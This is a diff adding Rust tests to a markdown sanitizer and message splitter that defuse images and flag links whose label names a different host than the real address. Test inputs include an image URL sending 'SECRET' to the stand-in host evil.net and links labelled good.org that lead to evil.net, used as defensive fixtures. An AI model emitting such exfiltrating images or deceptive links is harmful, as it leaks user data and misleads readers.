@@ -2,7 +2,7 @@ use proptest::prelude::*;
 use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 
 use super::{link, *};
-use crate::view::{check, limits::width, text::BREAK};
+use crate::view::{check, limits::width, rollover::Roller, text::BREAK};
 
 fn bare(text: &str) -> String {
     text.replace(BREAK, "")
@@ -28,6 +28,15 @@ fn links(markdown: &str) -> Vec<(String, String, String)> {
         }
     }
     links
+}
+
+/// A link whose label names another host than the one that it leads to, and that is not said after it.
+fn lie(markdown: &str) -> Option<(String, String, String)> {
+    links(markdown).into_iter().find(|(label, address, after)| {
+        web(address).is_some_and(|url| {
+            link::is_deceptive(label, Some(&url)) && !after.starts_with(&format!(" ({})", link::host(&url)))
+        })
+    })
 }
 
 fn images(markdown: &str) -> usize {
@@ -62,6 +71,24 @@ fn a_link_says_where_it_leads() {
 }
 
 #[test]
+fn a_picture_whose_words_go_over_a_line_is_none() {
+    let text = "![a\nb](https://evil.net/p.png?d=SECRET)";
+    assert_eq!(neutral(text), "!\u{200B}[a\nb]\u{200B}(https://evil.net/p.png?d=SECRET)");
+    // What is code for one reader is none for another.
+    let bracketed = ["- ```\n![\\[a](https://evil.net/p.png)", "![`[`](https://evil.net/p.png)"];
+    for text in bracketed.map(str::to_owned).into_iter().chain([format!("- ```\n{text}")]) {
+        let safe = neutral(&text);
+        assert!(images(&text) == 1 && images(&safe) == 0, "{safe:?}");
+    }
+    assert!(links(&neutral("[good.org\nor so](https://evil.net)")).is_empty());
+    let (mut neutral, label) = (Neutral::default(), "long".repeat(600));
+    let mut safe = neutral.feed(&format!("![{label}"));
+    safe.push_str(&neutral.feed("](https://evil.net/p.png)"));
+    safe.push_str(&neutral.finish());
+    assert_eq!(images(&safe), 0, "{safe:?}");
+}
+
+#[test]
 fn mrkdwn_says_what_the_markdown_says() {
     let text = "# Title **b**\n\nHello *you* & **me**, ~~not~~ `a<b` <!here>.\n[docs](https://example.com/?a=1&b=2)\n\n1. one\n2. two\n   - deep\n\n- [x] done\n\n> wise\n> words\n\n```sql\nSELECT '<@U1>' FROM t;\n```\n\n| Name | Count |\n|---|--:|\n| a | 1 |\n| longer | 22 |\n\n---\n![p](https://evil.net/p.png) [bad](javascript:x)";
     insta::assert_snapshot!("mrkdwn", mrkdwn(text));
@@ -86,6 +113,19 @@ fn text_is_cut_between_paragraphs_where_it_can_be() {
     let text = format!("{}\n\n## Next\n{}", "word ".repeat(50), "more ".repeat(40));
     let pieces = split(&text, 400);
     assert!(pieces[1].text.starts_with("## Next"), "{pieces:?}");
+}
+
+#[test]
+fn a_link_is_not_cut_from_where_it_leads() {
+    for (before, at) in ["x", "a "].into_iter().flat_map(|before| (0..200).map(move |at| (before, at))) {
+        let text = format!("{}[https://good.org](https://evil.net) and {}", before.repeat(at), "more ".repeat(40));
+        for piece in split(&neutral(&text), 200) {
+            assert_eq!(lie(&piece.text), None, "{}", piece.text);
+        }
+        for piece in split(&mrkdwn(&text), 200) {
+            assert!(!piece.text.replace("org> (evil.net)", "").contains("org>"), "{}", piece.text);
+        }
+    }
 }
 
 proptest! {
@@ -130,13 +170,25 @@ proptest! {
         safe.push_str(&neutral.finish());
         prop_assert_eq!(check::control(&no_code_calls(&safe)), None, "{:?}", safe);
         prop_assert_eq!(images(&safe), 0, "{:?}", safe);
-        let deceptive = links(&safe).into_iter().find(|(label, address, after)| {
-            let url = web(address);
-            url.as_ref().is_some_and(|url| {
-                link::is_deceptive(label, Some(url)) && !after.starts_with(&format!(" ({})", link::host(url)))
-            })
-        });
-        prop_assert_eq!(deceptive, None, "{:?}", safe);
+        prop_assert_eq!(lie(&safe), None, "{:?}", safe);
+    }
+
+    #[test]
+    fn no_message_ends_before_it_says_where_its_links_lead(text in check::hostile(), max in 200_usize..3_000) {
+        for piece in split(&neutral(&text), max) {
+            prop_assert_eq!(lie(&piece.text), None, "{:?}", piece.text);
+        }
+        let (mut roller, mut stream) = (Roller::new(), String::new());
+        roller.text(&text);
+        roller.finish();
+        while let Some(batch) = roller.batch() {
+            stream.extend(batch.chunks.iter().filter_map(|chunk| chunk["text"].as_str()));
+            prop_assert_eq!(lie(&stream), None, "{:?}", stream);
+            if batch.rolls {
+                stream.clear();
+            }
+            roller.sent();
+        }
     }
 
     #[test]
